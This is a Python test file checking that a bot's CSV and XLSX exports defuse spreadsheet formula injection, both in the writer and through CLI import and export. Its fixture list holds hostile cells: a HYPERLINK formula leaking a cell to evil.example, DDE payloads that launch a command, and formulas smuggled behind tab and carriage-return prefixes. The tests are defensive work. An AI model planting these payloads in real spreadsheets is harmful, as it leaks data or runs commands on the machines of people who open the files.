"""Spreadsheet safety: text that a spreadsheet would run as a formula is written as text (OWASP's CSV-injection
advice), in the writer itself and in the exports a manager opens (the CLI's, through a real process)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

from openpyxl import load_workbook

from bot.exports.table import Table, csv_lines, xlsx_bytes
from tests.test_cli import run  # noqa: F401  (the fixture)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _table() -> Table:
    rows = [[text, date(2021, 1, 15), datetime(2021, 1, 15, 9, 30, tzinfo=UTC), -3, "plain text"] for text in HOSTILE]
    return Table("Safety", ["Text", "Day", "At", "Number", "Other"], rows)


def test_csv_cells_that_look_like_formulas_start_with_an_apostrophe() -> None:
    rows = list(csv.reader(io.StringIO("".join(csv_lines(_table())))))
    assert [row[0] for row in rows[1:]] == [f"'{text}" for text in HOSTILE]
    # Dates and numbers are written as they are: a negative number is a number, not a formula.
    assert rows[1][1:] == ["2021-01-15", "2021-01-15 09:30", "-3", "plain text"]


def test_xlsx_text_cells_are_strings_and_dates_and_numbers_stay_typed() -> None:
    sheet = load_workbook(io.BytesIO(xlsx_bytes(_table()))).worksheets[0]
    body = list(sheet.iter_rows(min_row=2))
    # XML reads a carriage return back as a line feed; the cell is still the text as written.
    assert [row[0].value for row in body] == [text.replace("\r", "\n") for text in HOSTILE]
    assert {row[0].data_type for row in body} == {"s"} and all(row[0].quotePrefix for row in body)
    first = body[0]
    assert isinstance(first[1].value, datetime) and first[1].value.date() == date(2021, 1, 15)
    assert first[3].value == -3 and first[3].data_type == "n"
    assert first[4].data_type == "s" and not first[4].quotePrefix


def test_cli_exports_of_an_imported_formula_title_hold_text(run, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    assert run("init", "--demo").returncode == 0
    plan = tmp_path / "evil.csv"
    with plan.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["Ref", "Action", "Lead", "Timeline", "Expected output"])
        writer.writerow(["1", HOSTILE[0], "HoPC", "End of June 2021", "+441234"])
    assert run("import", str(plan), "--key", "evil").returncode == 0

    as_csv = tmp_path / "evil-out.csv"
    assert run("export", "actions", "--plan", "evil", "--out", str(as_csv)).returncode == 0
    row = next(csv.DictReader(as_csv.open(encoding="utf-8-sig")))
    assert row["Action"] == f"'{HOSTILE[0]}"

    as_xlsx = tmp_path / "evil-out.xlsx"
    assert run("export", "actions", "--plan", "evil", "--out", str(as_xlsx)).returncode == 0
    sheet = load_workbook(as_xlsx).worksheets[0]
    headings = [cell.value for cell in sheet[1]]
    cells = {heading: cell for heading, cell in zip(headings, sheet[2], strict=True)}
    assert cells["Action"].value == HOSTILE[0] and cells["Action"].data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
